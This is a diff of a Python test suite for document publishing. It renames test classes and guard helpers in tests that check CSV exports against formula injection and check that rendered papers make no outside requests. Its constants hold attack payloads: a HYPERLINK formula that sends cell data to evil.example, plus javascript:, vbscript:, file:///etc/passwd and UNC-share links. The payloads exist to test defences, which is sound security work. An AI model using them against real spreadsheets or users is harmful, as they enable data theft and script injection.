@@ -10,8 +10,8 @@ from http.server import BaseHTTPRequestHandler, HTTPServer
 import openpyxl
 
 from actionplans import workflow
-from tests.abuse.guards import seen_to_fail, without
-from tests.reports.base import PUBLIC, ROUND, PublishCase
+from tests.abuse.guards import must_fail_without_guard, removes_guard
+from tests.reports.base import PUBLIC_URL, ROUND_URL, PublishCase
 
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?"&A1,"Read more")',
@@ -26,14 +26,14 @@ FIELDS = (
 LINKS = "javascript:alert(1) file:///etc/passwd \\\\evil.example\\share vbscript:msgbox(1)"
 
 
-class PapersCase(PublishCase):
+class PublishedDocumentTestCase(PublishCase):
     def file(self, kind):
-        answer = self.get(self.mo, f"{ROUND}{kind}/")
+        answer = self.get(self.mo, f"{ROUND_URL}{kind}/")
         self.assertEqual(answer.status_code, 200, kind)
         return answer.content
 
     def publish_with(self, words):
-        self.approve(workflow.Answer(evidence=words, grade=2))
+        self.approve(workflow.UpdateContent(evidence=words, grade=2))
         self.ask()
 
     def cells(self):
@@ -45,9 +45,9 @@ class PapersCase(PublishCase):
             return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
 
 
-@seen_to_fail
-class FormulaTests(PapersCase):
-    @without("documents.writers.csv_rows.LIKE_FORMULAS", ())
+@must_fail_without_guard
+class FormulaTests(PublishedDocumentTestCase):
+    @removes_guard("documents.writers.csv_rows.FORMULA_PREFIXES", ())
     def test_b18_no_cell_of_a_csv_is_run(self):
         for words in FORMULAS:
             self.approve_again(words)
@@ -74,12 +74,12 @@ class FormulaTests(PapersCase):
             self.publish_with(words)
             self.round.refresh_from_db()
             return
-        self.correct(workflow.Answer(evidence=words, grade=2))
+        self.correct(workflow.UpdateContent(evidence=words, grade=2))
         self.ask(reason="The words were wrong.")
         self.round.refresh_from_db()
 
 
-class PaperTests(PapersCase):
+class PaperTests(PublishedDocumentTestCase):
     def test_b19_a_paper_fetches_nothing_and_shows_the_words(self):
         asked = []
 
@@ -95,7 +95,7 @@ class PaperTests(PapersCase):
             for kind in ("pdf", "docx", "odt", "html"):
                 self.file(kind)
             self.client.logout()
-            self.assertEqual(self.client.get(f"{PUBLIC}pdf/").status_code, 200)
+            self.assertEqual(self.client.get(f"{PUBLIC_URL}pdf/").status_code, 200)
             server.shutdown()
         self.assertEqual(asked, [])
 
